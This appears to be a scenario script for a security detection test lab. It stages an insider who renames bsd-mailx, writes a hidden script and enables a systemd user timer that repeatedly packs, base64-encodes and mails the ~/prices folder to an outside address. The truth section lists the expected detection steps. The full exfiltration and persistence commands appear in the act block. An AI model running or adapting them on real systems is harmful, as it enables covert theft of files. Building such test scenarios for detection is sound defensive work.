# A user timer, and a mailer under a name that says nothing.
title="systemd timer starts a copy of mailx under another name"
what="Somebody with buyer's login copies bsd-mailx to ~/.local/bin/xdg-cache-sync, writes a user service that packs ~/prices, encodes it and mails it to an outside address with that copy, and enables a timer for it. The session's systemd starts it twice; the mail leaves through Postfix."
host=mx1.example.org user=buyer daemons="cron sshd"

setup() {
  mkdir -p /home/buyer/prices; head -c 60000 /dev/urandom > /home/buyer/prices/list.ods; chown -R buyer: /home/buyer/prices
}
act() {
  user_manager buyer
  small_talk 2
  ssh_as buyer <<'L'
mkdir -p .local/bin .config/systemd/user
cp /usr/bin/bsd-mailx .local/bin/xdg-cache-sync
printf 'tar -C $HOME -czf - prices | base64 | $HOME/.local/bin/xdg-cache-sync -s cache deposit@example.net\n' > .local/bin/.c
printf '[Service]\nType=oneshot\nExecStart=/bin/sh %%h/.local/bin/.c\n' > .config/systemd/user/xdg-cache.service
printf '[Timer]\nOnActiveSec=4s\nOnUnitInactiveSec=8s\nAccuracySec=1s\n[Install]\nWantedBy=timers.target\n' > .config/systemd/user/xdg-cache.timer
systemctl --user daemon-reload
systemctl --user enable --now xdg-cache.timer
L
  wait_log_count 'to=<deposit@example.net>.*status=sent' 2 40
  small_talk 1
  user_managers_down
}
truth() {
  exec_step copy 'cp /usr/bin/bsd-mailx' 'a mailer gets another name'
  exec_step enable 'systemctl --user enable --now xdg-cache.timer' 'a timer is enabled'
  exec_step job 'sh /home/buyer/.local/bin/.c' 'systemd starts the job'
  exec_step pack 'tar -C /home/buyer -czf' 'a folder is packed'
  exec_step send 'xdg-cache-sync -s cache' 'the copy mails it'
  mail_step sent 'to=<deposit@example.net>.*status=sent' 'outside'
}
